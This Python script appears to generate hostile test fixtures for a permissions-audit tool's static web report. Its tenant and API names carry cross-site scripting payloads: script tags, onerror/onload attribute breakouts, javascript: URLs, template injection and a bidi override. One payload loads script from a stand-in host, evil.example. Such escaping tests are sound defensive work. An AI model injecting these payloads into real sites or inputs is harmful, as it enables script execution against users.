#!/usr/bin/env python3
"""Writes Tests/Fixtures/hostile/web/: a tenant export and a third-party API catalog whose names attack a web
page (the static site of `permaudit site`): script elements, attribute breakouts with event handlers,
javascript: URLs, a Mustache tag, and a bidi override. Each app is consented tenant-wide to
CallDelegation.ReadWrite and to one of the hostile API's scopes. The helpers are make-hostile-fixture.py's.
"""
import importlib.util, pathlib, sys

spec = importlib.util.spec_from_file_location("hostile", pathlib.Path(__file__).with_name("make-hostile-fixture.py"))
hostile = importlib.util.module_from_spec(spec)
spec.loader.exec_module(hostile)

TENANT = "5e5e5e5e-7a64-4b0f-9d2c-5e8f1a2b3c4d"
DAY = "2026-11-15"

# Each sets window.__pwned or opens a dialog if it ever runs.
WEB_NAMES = [
    "<script>window.__pwned=1</script>",
    "\"><img src=x onerror=\"window.__pwned=1\">",
    "'><svg onload=window.__pwned=1>",
    "javascript:window.__pwned=1",
    "</pre></td></table><script src=\"http://evil.example/x.js\"></script>",
    "{{chrome}}{{{searchIndex}}} Mustache",
    "Micro\u202etfos <b>bold</b> Graph",
]

def main(folder):
    folder.mkdir(parents=True, exist_ok=True)
    graph = hostile.sp(hostile.GRAPH_SP, hostile.GRAPH_APP, "Microsoft Graph", "f8cdef31-a31e-4b4a-93e4-5f571e91255a")
    scopes = [{"adminConsentDescription": name + " description", "adminConsentDisplayName": name,
               "id": f"0f0f0f0f-0000-4000-8000-{n:012x}", "isEnabled": True, "type": "Admin",
               "userConsentDescription": name, "userConsentDisplayName": name, "value": name}
              for n, name in enumerate(WEB_NAMES, start=1)]
    api = hostile.sp(hostile.guid(998), hostile.app_guid(998), "<script>window.__pwned=1</script> API", hostile.VENDOR_TENANT,
                     "\"><img src=x onerror=window.__pwned=1>", scopes=scopes)
    apps = [hostile.sp(hostile.guid(n), hostile.app_guid(n), name, hostile.VENDOR_TENANT, name)
            for n, name in enumerate(WEB_NAMES, start=1)]
    grants = [hostile.grant(n, hostile.guid(n), hostile.GRAPH_SP, "CallDelegation.ReadWrite") for n in range(1, len(WEB_NAMES) + 1)]
    grants += [hostile.grant(100 + n, hostile.guid(n), hostile.guid(998), name) for n, name in enumerate(WEB_NAMES, start=1)
               if " " not in name]
    hostile.write(folder, f"organization-{DAY}.json", hostile.page("organization", [{"id": TENANT, "displayName": WEB_NAMES[0], "tenantType": "AAD"}]))
    hostile.write(folder, f"servicePrincipals-{DAY}.json", hostile.page("servicePrincipals", [graph, api] + apps))
    hostile.write(folder, f"oauth2PermissionGrants-{DAY}.json", hostile.page("oauth2PermissionGrants", grants))
    hostile.write(folder, f"appRoleAssignments-{DAY}.json", hostile.page("appRoleAssignments", []))
    hostile.write(folder, "web-api-servicePrincipal-2026-11-14.json", api)

if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "Tests/Fixtures/hostile/web"))
